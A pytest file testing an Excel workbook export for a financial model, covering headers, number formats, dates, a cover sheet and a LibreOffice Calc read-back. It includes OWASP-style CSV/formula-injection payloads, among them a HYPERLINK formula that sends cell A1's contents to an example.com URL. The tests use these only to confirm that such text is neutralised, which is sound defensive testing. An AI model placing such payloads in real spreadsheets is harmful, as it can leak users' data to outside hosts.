"""The Excel workbook: a cover, readable headers, number formats, real dates, nothing that runs.

The last tests open the workbook in LibreOffice Calc (headless, Debian's libreoffice-calc-nogui,
installed by ./dev test) and read back what Calc made of each cell: numbers must be numbers,
percentages percentages and dates dates, shown the way the formats say.
"""

from __future__ import annotations

import doctest
import io
import re
import shutil
import subprocess
import xml.etree.ElementTree as ET
from datetime import UTC, date, datetime
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

import model.export.columns
import model.export.workbook
from model.engine import run
from model.export.columns import column_kind, column_title
from model.export.workbook import COVER_SHEET, NUMBER_FORMATS, Cover, workbook_bytes
from model.facts import load_facts
from model.scenario import SPECS, Scenario
from model.sources import sources_table

TODAY = date(2026, 10, 1)
EXPORTED_AT = datetime(2026, 10, 1, 14, 30, tzinfo=UTC)
# Payloads from the OWASP "CSV Injection" page, plus the short forms a spreadsheet also runs.
FORMULA_TEXT = ['=HYPERLINK("http://example.com/?x="&A1,"Error: click")', "=1+1", "+1", "-2+3", "@SUM(1+9)", "\t=1+1"]


def figures() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "year": [2024, 2025, 2026],
            "amount_usd_bn": [1234.5678, -1.5, None],
            "rate": [0.2, 0.125, None],
            "eps_usd": [-0.4123, 0.0, 1.0],
            "counterparty": ["Azure", "Oracle", "CoreWeave, Inc."],
            "counted": [True, False, True],
            "date": ["2023-01-23", "2024-10", "2021"],
        }
    )


def sources_frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "topic": ["Investment", "Equity", "Equity", "Investment", "Investment"],
            "record": ["t2019", "q1fy26", "stake", "t2019", "t2019"],
            "field": ["amount_usd_bn", "eps_usd", "stake", "date", "id"],
            "value": ["1.0", "-0.41", "0.27", "2019-07-22", "@SUM(A1)"],
            "unit": ["USD bn", "USD", "fraction", "", ""],
            "source": ["OpenAI", "Microsoft 10-Q", "Microsoft 8-K", "OpenAI", "OpenAI"],
            "as_of": ["2019-07-22", "2025-10-29", "2025-10", "2019-07-22", "2019-07-22"],
            "derived": [False, False, False, False, False],
        }
    )


def cover() -> Cover:
    return Cover(
        exported_at=EXPORTED_AT,
        link="http://localhost:8501/?discount_rate=0.12",
        msft_price_usd=509.22,
        msft_price_as_of=date(2026, 9, 28),
        msft_price_source="offline snapshot",
        today=TODAY,
    )


def book_of(tables, scenario=None, sources=None, with_cover=True) -> openpyxl.Workbook:
    data = workbook_bytes(tables, scenario or Scenario(), sources_frame() if sources is None else sources,
                          cover() if with_cover else None)
    return openpyxl.load_workbook(io.BytesIO(data))


def header(sheet) -> list[str]:
    return [cell.value for cell in sheet[1]]


def column(sheet, title: str) -> list:
    index = header(sheet).index(title)
    return [row[index] for row in sheet.iter_rows(min_row=2)]


def test_doctests():
    for module in (model.export.columns, model.export.workbook):
        failures, tried = doctest.testmod(module)
        assert tried and not failures


@pytest.mark.parametrize(
    ("name", "title"),
    [
        ("amount_usd_bn", "Amount (USD bn)"),
        ("reported_eps_usd", "Reported EPS (USD)"),
        ("share_of_msft_market_value", "Share of MSFT market value (%)"),
        ("p10_cumulative_position_usd_bn", "P10 cumulative position (USD bn)"),
        ("rate", "Rate (%)"),
        ("as_of", "As of"),
        ("usd_bn", "USD bn"),
        ("year", "Year"),
    ],
)
def test_column_titles(name, title):
    assert column_title(name) == title


def test_sheets_come_after_a_cover():
    book = book_of({"msft_cash_flows": figures(), "summary": figures().head(1)})
    assert book.sheetnames == [COVER_SHEET, "msft_cash_flows", "summary", "scenario", "sources"]


def test_headers_are_readable_with_units_bold_frozen_and_filtered():
    sheet = book_of({"figures": figures()})["figures"]
    assert header(sheet) == [
        "Year", "Amount (USD bn)", "Rate (%)", "EPS (USD)", "Counterparty", "Counted", "Date as reported", "Date",
    ]
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:H4"
    assert sheet.print_title_rows == "$1:$1"


def test_pages_print_landscape_fitted_to_the_width():
    book = book_of({"figures": figures()})
    for sheet in book.worksheets:
        assert sheet.page_setup.orientation == "landscape"
        assert sheet.page_setup.fitToWidth == 1 and sheet.page_setup.fitToHeight == 0
        assert sheet.sheet_properties.pageSetUpPr.fitToPage


def test_number_formats_follow_the_column_kind():
    sheet = book_of({"figures": figures()})["figures"]
    assert [c.number_format for c in column(sheet, "Amount (USD bn)")[:2]] == ["#,##0.0"] * 2
    assert [c.number_format for c in column(sheet, "Rate (%)")[:2]] == ["0.0%"] * 2
    assert [c.number_format for c in column(sheet, "EPS (USD)")] == ["#,##0.00"] * 3
    assert column(sheet, "Year")[0].number_format == "0"
    # Full precision is kept: the format rounds only what is shown.
    assert column(sheet, "Amount (USD bn)")[0].value == 1234.5678
    assert column(sheet, "Amount (USD bn)")[2].value is None


def test_a_value_column_takes_its_format_from_the_unit_column_row_by_row():
    sheet = book_of({}, Scenario(discount_rate=0.12))["scenario"]
    by_name = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    value = header(sheet).index("Value")
    assert by_name["discount_rate"][value].value == 0.12
    assert by_name["discount_rate"][value].number_format == NUMBER_FORMATS["percent"]
    assert by_name["horizon_year"][value].number_format == NUMBER_FORMATS["year"]
    assert [row[0].value for row in sheet.iter_rows(min_row=2)] == list(SPECS)


def test_reported_text_dates_keep_their_text_and_gain_a_real_date():
    sheet = book_of({"figures": figures()})["figures"]
    assert [c.value for c in column(sheet, "Date as reported")] == ["2023-01-23", "2024-10", "2021"]
    dates = column(sheet, "Date")
    assert dates[0].value == datetime(2023, 1, 23) and dates[0].number_format == "YYYY-MM-DD"
    assert dates[0].is_date
    assert [c.value for c in dates[1:]] == [None, None]  # a month or a year is not a day


def test_sources_store_numbers_as_numbers_and_dates_as_dates():
    sheet = book_of({})["sources"]
    values = column(sheet, "Value")
    assert [c.value for c in values[:3]] == [1, -0.41, 0.27]
    assert all(c.data_type == "n" for c in values[:3])
    assert values[2].number_format.endswith("%")  # a fraction
    assert values[3].value == datetime(2019, 7, 22) and values[3].is_date
    assert values[4].value == "'@SUM(A1)"  # text that would run stays text, neutralised
    assert [c.value for c in column(sheet, "As of")][2] is None


def test_cover_names_the_scenario_price_sign_convention_and_export_time():
    book = book_of({"figures": figures()}, Scenario(discount_rate=0.12))
    rows = {row[0].value: row[1] for row in book[COVER_SHEET].iter_rows(min_row=2) if row[0].value}
    assert rows["Scenario link"].value == "http://localhost:8501/?discount_rate=0.12"
    assert rows["Scenario link"].hyperlink.target == "http://localhost:8501/?discount_rate=0.12"
    assert rows["MSFT price (USD)"].value == 509.22
    assert rows["MSFT price as of"].value == datetime(2026, 9, 28) and rows["MSFT price as of"].is_date
    assert rows["Exported at (UTC)"].value == datetime(2026, 10, 1, 14, 30)
    assert "money in is positive" in rows["Sign convention"].value
    changed = [label.strip() for label in rows if str(label).startswith("  ")]
    assert changed == [SPECS["discount_rate"].label]
    sheets = [row[0].value for row in book[COVER_SHEET].iter_rows(min_row=2) if row[0].hyperlink
              and str(row[0].hyperlink.location or "").endswith("A1")]
    assert sheets == ["figures", "scenario", "sources"]


def test_formula_text_is_neutralised_everywhere_while_numbers_stay_numbers():
    df = pd.DataFrame({"note": FORMULA_TEXT, "amount_usd_bn": [-1.5] * len(FORMULA_TEXT)})
    tables = {"notes": df, "=cmd": pd.DataFrame({"=x": ["=1+1"]})}
    book = book_of(tables, with_cover=False)
    assert [c.value for c in column(book["notes"], "Note")] == ["'" + text for text in FORMULA_TEXT]
    assert all(c.value == -1.5 and c.data_type == "n" for c in column(book["notes"], "Amount (USD bn)"))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            assert not any(cell.data_type == "f" for cell in row)


# -- opened in LibreOffice Calc ------------------------------------------------------------------------

NS = {
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
}


def _q(prefix: str, name: str) -> str:
    return f"{{{NS[prefix]}}}{name}"


def calc_sheets(fods: Path) -> dict[str, list[list[dict]]]:
    """Sheet -> rows -> cells as Calc saved them: value type, shown text, formula (if any)."""
    sheets = {}
    for table in ET.parse(fods).getroot().iter(_q("table", "table")):
        rows = []
        for row in table.iter(_q("table", "table-row")):
            cells = []
            for cell in row:
                if cell.tag not in (_q("table", "table-cell"), _q("table", "covered-table-cell")):
                    continue
                repeat = int(cell.get(_q("table", "number-columns-repeated"), "1"))
                entry = {
                    "type": cell.get(_q("office", "value-type")),
                    "text": "\n".join("".join(p.itertext()) for p in cell.iter(_q("text", "p"))),
                    "formula": cell.get(_q("table", "formula")),
                }
                cells.extend([entry] * min(repeat, 64))
            rows.append(cells)
        sheets[table.get(_q("table", "name"))] = rows
    return sheets


@pytest.fixture(scope="module")
def real_tables() -> dict[str, pd.DataFrame]:
    facts = load_facts()
    result = run(Scenario(), facts, TODAY, 509.22)
    return {"figures": figures(), **result.tables}


@pytest.fixture(scope="module")
def in_calc(tmp_path_factory, real_tables) -> tuple[openpyxl.Workbook, dict]:
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.fail("LibreOffice Calc is not installed: ./dev test installs Debian's libreoffice-calc-nogui")
    folder = tmp_path_factory.mktemp("calc")
    data = workbook_bytes(real_tables, Scenario(), sources_table(load_facts()), cover())
    (folder / "model.xlsx").write_bytes(data)
    completed = subprocess.run(
        [soffice, "--headless", "--norestore", f"-env:UserInstallation=file://{folder}/profile",
         "--convert-to", "fods", "--outdir", str(folder), str(folder / "model.xlsx")],
        capture_output=True, text=True, timeout=180, check=False,
    )
    fods = folder / "model.fods"
    assert fods.exists(), f"LibreOffice could not open the workbook: {completed.stdout} {completed.stderr}"
    return openpyxl.load_workbook(io.BytesIO(data)), calc_sheets(fods)


def test_calc_opens_every_sheet(in_calc):
    book, sheets = in_calc
    assert list(sheets) == book.sheetnames


def test_calc_reads_numbers_percentages_and_dates_as_such_shown_as_formatted(in_calc):
    _, sheets = in_calc
    rows = sheets["figures"]
    titles = [cell["text"] for cell in rows[0]]
    first = dict(zip(titles, rows[1], strict=False))
    assert first["Year"] == {"type": "float", "text": "2024", "formula": None}
    assert (first["Amount (USD bn)"]["type"], first["Amount (USD bn)"]["text"]) == ("float", "1,234.6")
    assert (first["Rate (%)"]["type"], first["Rate (%)"]["text"]) == ("percentage", "20.0%")
    assert (first["EPS (USD)"]["type"], first["EPS (USD)"]["text"]) == ("float", "-0.41")
    assert (first["Date"]["type"], first["Date"]["text"]) == ("date", "2023-01-23")
    assert (first["Date as reported"]["type"], first["Date as reported"]["text"]) == ("string", "2023-01-23")
    assert first["Counted"]["text"] == "TRUE"  # Calc keeps a boolean as the constant TRUE()
    second = dict(zip(titles, rows[2], strict=False))
    assert second["EPS (USD)"]["text"] == "0.00"  # no "-0.00"
    assert second["Date"]["type"] is None  # "2024-10" has no day: the date cell is empty


def _typed_columns(rows: list[list[dict]]) -> dict[str, list[dict]]:
    titles = [cell["text"] for cell in rows[0]]
    columns: dict[str, list[dict]] = {title: [] for title in titles if title}
    for row in rows[1:]:
        for title, cell in zip(titles, row, strict=False):
            if title and cell["type"] is not None:
                columns[title].append(cell)
    return columns


def test_calc_sees_every_model_figure_as_a_number_and_every_date_as_a_date(in_calc, real_tables):
    _, sheets = in_calc
    checked = 0
    for name, df in real_tables.items():
        columns = _typed_columns(sheets[name])
        for source_name in df.columns:
            kind = column_kind(source_name)
            if kind is None or df[source_name].dtype.kind not in "fi":
                continue
            cells = columns[column_title(source_name)]
            expected = "percentage" if kind == "percent" else "float"
            assert {cell["type"] for cell in cells} <= {expected}, (name, source_name)
            checked += len(cells)
        for title, cells in columns.items():
            # Calc writes a boolean cell as the constant TRUE() or FALSE(); nothing else may be a formula.
            assert {cell["formula"] for cell in cells} <= {None, "of:=TRUE()", "of:=FALSE()"}, (name, title)
            if title in ("Date", "As of"):
                assert cells and {cell["type"] for cell in cells} == {"date"}, (name, title)
                assert all(re.fullmatch(r"\d{4}-\d{2}-\d{2}", cell["text"]) for cell in cells)
    assert checked > 100


def test_calc_sees_numbers_in_the_sources_sheet(in_calc):
    _, sheets = in_calc
    columns = _typed_columns(sheets["sources"])
    numeric_text = [c for c in columns["Value"] if re.fullmatch(r"-?[\d,]+(\.\d+)?%?", c["text"])]
    assert numeric_text and all(c["type"] in ("float", "percentage") for c in numeric_text)
    assert any(c["type"] == "date" for c in columns["Value"])
    cover_rows = {row[0]["text"]: row[1] for row in sheets[COVER_SHEET] if len(row) > 1 and row[0]["text"]}
    assert cover_rows["MSFT price as of"]["type"] == "date"
    assert cover_rows["MSFT price (USD)"]["text"] == "509.22"
